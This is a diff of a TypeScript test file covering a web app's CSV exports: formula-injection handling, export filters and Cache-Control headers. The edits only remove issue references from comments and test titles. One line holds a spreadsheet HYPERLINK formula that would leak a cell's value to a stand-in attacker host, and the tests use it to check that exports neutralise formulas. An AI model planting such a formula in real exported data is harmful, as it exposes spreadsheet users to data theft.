@@ -13,7 +13,7 @@ import { writeSheet } from "../src/imports/export.js";
 import { fieldsOf, seedClient, startTestServer, type TSeededClient, type TTestServer } from "./helpers.js";
 import { validBody } from "./resource-bodies.js";
 
-/* Issue 26 §3 and §8: what the exports write, and which records they take. */
+/* What the exports write, and which records they take. */
 
 let server: TTestServer;
 let alpha: TSeededClient;
@@ -35,7 +35,7 @@ async function exported(key: string, query: string): Promise<{ status: number; t
 
 const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.flat();
 
-describe("CSV formula injection (issue 26 §3)", () => {
+describe("CSV formula injection", () => {
   const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
   const DEFINITIONS: TImportDefinition[] = [WORKPIECE_IMPORT, WELDER_IMPORT, MEASURING_INSTRUMENT_IMPORT, WORKSTATION_IMPORT];
 
@@ -88,7 +88,7 @@ describe("CSV formula injection (issue 26 §3)", () => {
   });
 });
 
-describe("export filters (issue 26 §8)", () => {
+describe("export filters", () => {
   it("exports exactly the rows of the list with the same ?tag= filter and search", async () => {
     const workpiece = RESOURCES.find((candidate) => candidate.key === "workpiece")!;
     const tagResource = RESOURCES.find((candidate) => candidate.key === "workpieceTag")!;
@@ -126,7 +126,7 @@ describe("export filters (issue 26 §8)", () => {
   });
 });
 
-describe("Cache-Control (issue 26 §10)", () => {
+describe("Cache-Control", () => {
   it("answers Cache-Control: no-store on /api/me/, exports, templates, a list and a stored file's download", async () => {
     const form = new FormData();
     form.append("file", new Blob(["plain text"]), "notes.txt");
